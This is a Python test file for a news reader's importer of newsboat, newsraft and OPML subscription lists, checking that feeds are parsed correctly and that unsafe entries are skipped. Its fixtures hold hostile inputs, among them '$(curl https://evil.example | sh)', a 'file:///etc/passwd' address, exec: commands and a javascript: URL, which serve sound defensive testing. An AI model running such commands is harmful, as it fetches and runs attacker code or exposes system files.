"""The lists of other readers: told apart by their words, and nothing in them is ever run."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tui_news.feeds.lists import read_list
from tui_news.models import FeedError, Subscription
from tui_news.models.moving import FoundQuery

URLS = r"""
# my feeds
https://one.example/rss news "~The \"One\"" daily
https://two.example/atom "long reads" ! # a remark
"https://three.example/feed" news/north
http://ola:secret@four.example/f
https://one.example/rss again
"query:Unread news:unread = \"yes\" and tags # \"news\"" news
query:broken
exec:~/bin/feed.sh scripts
"filter:~/bin/clean:https://five.example/"
file:///home/ola/feed.xml
javascript:alert(1)
"""


def test_newsboat_urls() -> None:
    found = read_list(URLS.encode())
    assert found.kind == "newsboat's urls"
    assert found.feeds == (
        Subscription("https://one.example/rss", 'The "One"', "", "news", ("daily",)),
        Subscription("https://two.example/atom", "", "", "long reads", (), True),
        Subscription("https://three.example/feed", folder="news∕north"),
        Subscription("http://ola:secret@four.example/f"),
    )
    assert found.queries == (FoundQuery("Unread news", 'unread = "yes" and tags # "news"'),)
    assert [line.split(":")[0] for line in found.skipped] == ["line 7", "line 10", "line 11", "line 12", "line 13"]
    assert "would run a program" in found.skipped[1]
    assert "would run a program" in found.skipped[2]
    assert "secret" not in "".join(found.skipped)


NEWSRAFT = """# mine
https://zero.example/feed
@ News of the North < reload-period 60
https://one.example/rss "The One"
https://two.example/atom "Two" < reload-period 30; item-limit 100
$(curl https://evil.example | sh) "Three"
@ Tech/Linux
feed://four.example/rss
file:///etc/passwd "Five"
"""


def test_newsraft_feeds() -> None:
    found = read_list(NEWSRAFT.encode())
    assert found.kind == "newsraft's feeds"
    assert found.feeds == (
        Subscription("https://zero.example/feed"),
        Subscription("https://one.example/rss", "The One", "", "News of the North"),
        Subscription("https://two.example/atom", "Two", "", "News of the North"),
        Subscription("https://four.example/rss", folder="Tech∕Linux"),
    )
    assert len(found.skipped) == 3
    assert "would run a program" in found.skipped[0]
    assert "the settings" in found.skipped[2]


def test_the_name_decides_only_what_the_words_leave_open() -> None:
    plain = b'https://one.example/rss "The One"\n'
    assert read_list(plain, "feeds").feeds[0].title == "The One"
    assert read_list(plain, "urls").feeds[0].folder == "The One"
    assert read_list(b'https://one.example/rss tech "~Name"\n', "feeds").feeds[0].folder == "tech"


def test_plain_addresses_and_opml() -> None:
    assert [feed.url for feed in read_list(b"https://a.example/\nhttps://b.example/\n").feeds] == [
        "https://a.example/",
        "https://b.example/",
    ]
    opml = b'<opml version="1.0"><body><outline text="A" xmlUrl="https://a.example/f"/></body></opml>'
    assert read_list(opml).feeds == (Subscription("https://a.example/f", "A"),)


@pytest.mark.parametrize("data", [b"", b"hello\nworld\n", b"\x00\x01\x02" * 100, b"PK\x03\x04zip"])
def test_what_is_no_list_says_so(data: bytes) -> None:
    with pytest.raises(FeedError, match="could not be read"):
        read_list(data)


_PIECES = st.sampled_from(
    ["https://a.example/f", "exec:x", "filter:a:b", "query:N:x", '"', "\\", "~T", "!", "@ S", "$(x)", "<", "#", "tag", "\n", " ",
     "javascript:x", "file:///x", "\x1b]0;x\x07", "é"]
)  # fmt: skip


@given(st.lists(_PIECES, max_size=30).map("".join))
def test_any_list_gives_web_addresses_or_a_sentence(text: str) -> None:
    try:
        found = read_list(text.encode())
    except FeedError:
        return
    assert all(feed.url.startswith(("https://", "http://")) for feed in found.feeds)
    assert "\x1b" not in "".join([*found.skipped, *(f.title + f.folder for f in found.feeds)])
